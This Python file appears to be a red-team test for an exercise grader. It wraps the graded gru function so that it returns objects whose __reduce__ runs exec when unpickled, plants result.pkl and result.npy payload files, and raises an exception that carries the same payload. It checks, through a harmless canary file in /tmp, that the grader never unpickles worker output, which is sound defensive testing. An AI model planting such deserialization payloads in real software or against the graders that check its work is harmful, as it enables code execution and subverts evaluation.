"""Red-team attack `pickle_payload` on gru_update. Returns objects that run code when unpickled
(an object whose __reduce__ calls exec, an object array of them, raw pickle bytes, an
exception with the payload as __reduce__) and leaves result.pkl / result.npy payloads in its
folder. The grader never unpickles anything from a worker: score 0, no /tmp/edrill-canary-
pickle_payload.

Below: the exercise with a recorded wrong answer in every blank, so that the attack is all
it could score with; the attack is at the end.
"""

# @edrill-base: wrong

import os
import pickle

import numpy as _np

_CANARY = "/tmp/edrill-canary-pickle_payload"


class _Payload:
    """Runs code when unpickled: if the grader ever unpickles what we send, the canary
    appears (in the grader's own /tmp, outside any sandbox)."""

    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('unpickled by the grader')" % _CANARY,))


class _Boom(Exception):
    def __reduce__(self):
        return _Payload().__reduce__()


_calls = [0]


def _plant():
    """Pickle files where a careless grader might load results from."""
    here = os.path.dirname(os.path.abspath(__file__))
    blob = pickle.dumps(_Payload())
    for name in ("result.pkl", "results.pkl", "report.pkl", ".edrill-result.pickle"):
        try:
            with open(os.path.join(here, name), "wb") as f:
                f.write(blob)
        except OSError:
            pass
    try:
        _np.save(os.path.join(here, "result.npy"),
                 _np.array([_Payload()], dtype=object), allow_pickle=True)
    except Exception:
        pass


def _payload(result):
    """In turn: an object with __reduce__, an object array, raw pickle bytes, an exception
    whose __reduce__ is the payload."""
    _calls[0] += 1
    kind = _calls[0] % 4
    if kind == 0:
        return _Payload()
    if kind == 1:
        return _np.array([_Payload()], dtype=object)
    if kind == 2:
        return pickle.dumps(_Payload())
    raise _Boom("pickle me")

# ---------------------------------------------------------------- the attack
_edrill_original = gru


def gru(*args, **kwargs):
    _plant()
    return _payload(_edrill_original(*args, **kwargs))
